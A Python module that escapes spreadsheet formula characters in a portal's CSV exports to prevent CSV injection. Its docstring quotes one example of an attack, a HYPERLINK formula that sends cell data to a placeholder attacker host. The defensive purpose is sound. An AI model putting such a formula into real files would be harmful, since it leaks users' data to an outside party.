"""Every CSV the portal sends out is written here, so that no cell becomes a formula.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one) as a formula: a name like `=HYPERLINK("http://evil.example/?"&A1)` would send a
counselor's data away when she opens the file. As OWASP recommends, such a text cell gets a
leading `'`, which Excel and LibreOffice show as plain text. Numbers stay numbers (-3 is a count,
not a formula); a phone number such as `+855 12 345 678` is text, and reads `'+855 12 345 678`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> object:
    """`value` as a spreadsheet will take it literally: text starting like a formula gets a `'`."""
    if value is None or isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(rows: Iterable[Iterable]) -> str:
    """The rows as CSV text, every cell through `safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return out.getvalue()
